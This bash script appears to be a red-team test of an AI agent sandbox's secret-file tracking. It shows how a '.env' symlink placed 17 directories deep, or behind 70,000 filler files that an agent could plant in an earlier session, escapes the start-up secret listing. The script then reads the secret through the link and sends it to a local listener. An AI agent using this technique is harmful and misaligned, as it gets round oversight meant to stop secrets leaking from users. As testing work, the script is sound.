#!/bin/bash
# A secret-named symlink (`.env -> config/dev-settings`) the start-up listing of secret
# names (claw_ir::names, MAX_DEPTH 16, MAX_LISTED 65,536) does not reach: its target is
# read untainted. Both modes (the rule is the model's, "a file is a secret if any of its
# names matches"). VARIANT=shallow (control), deep (a link 17 directories down) or wide (70,000 entries
# ahead of the link in the listing; an agent can plant them in one session for the next).
set -u; . "$(dirname "$0")/../common.sh"
D=$R5/names-bound; V=${VARIANT:-deep}; W=$D/ws-$V H=$D/home; rm -rf $W $H; mkdir -p $W/config $H
gcc -O1 -o $W/readsend $R5/../isolated-files-r4/readsend.c
printf "SECRET-ENV-$V\n" > $W/config/dev-settings
if [ $V = deep ]; then
  L=$W; for i in $(seq 1 17); do L=$L/d$i; done; mkdir -p $L
  ln -s $W/config/dev-settings $L/.env; LINK=${L#$W/}/.env
elif [ $V = shallow ]; then  # control: the same link 1 directory down
  mkdir -p $W/d1; ln -s $W/config/dev-settings $W/d1/.env; LINK=d1/.env
elif [ $V = wide ]; then
  mkdir -p $W/app; ln -s ../config/dev-settings $W/app/.env; LINK=app/.env
  # a filler directory that the listing meets before the link (readdir order is hashed)
  for n in $(seq 0 50); do mkdir $W/app/fill$n
    if ls -U -a $W/app | grep -xE "fill$n|\.env" | head -1 | grep -qx fill$n; then F=$W/app/fill$n; break; fi
    rmdir $W/app/fill$n; done
  (cd $F && seq 1 70000 | xargs touch); echo "filler: $F ($(ls -U $F | wc -l) files), listed before app/.env"
fi
echo "link: $LINK -> $(readlink $W/$LINK)"
for mode in run runmed; do
  listen 127.0.0.1 $D/out-$V-$mode.txt
  echo "== $mode: read through the link"; $mode $H $W ./readsend 127.0.0.1 plain $LINK
  echo "== $mode: read the target by its own name"; $mode $H $W ./readsend 127.0.0.1 plain config/dev-settings
  verdict $D/out-$V-$mode.txt SECRET-ENV
done
